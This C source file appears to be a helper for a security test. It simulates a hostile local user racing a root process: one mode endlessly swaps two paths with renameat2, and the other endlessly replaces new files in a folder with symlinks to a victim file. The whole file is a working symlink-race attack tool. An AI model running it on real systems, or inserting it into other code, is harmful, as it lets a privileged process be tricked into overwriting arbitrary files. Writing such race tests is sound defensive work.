/* Not a test: what another user of the machine does in a folder of their own while a test writes there as root.
 *
 * usage: intruder swap A B            exchanges the two names without an end
 *        intruder plant FOLDER VICTIM  puts links to VICTIM in place of every file that appears in FOLDER, without an end
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void swap(const char *one, const char *other) {
    for (;;) renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void plant(const char *folder, const char *victim) {
    if (chdir(folder) != 0) return;
    for (;;) {
        DIR *open_folder = opendir(".");
        struct dirent *entry;
        while (open_folder && (entry = readdir(open_folder)) != NULL) {
            if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
            if (unlink(entry->d_name) != 0) continue;
            if (symlink(victim, entry->d_name) != 0) continue;
        }
        if (open_folder) closedir(open_folder);
        symlink(victim, "report.html");
    }
}

int main(int count, char **words) {
    if (count != 4) return 2;
    puts("ready");
    fflush(stdout);
    if (strcmp(words[1], "swap") == 0) swap(words[2], words[3]);
    if (strcmp(words[1], "plant") == 0) plant(words[2], words[3]);
    return 2;
}
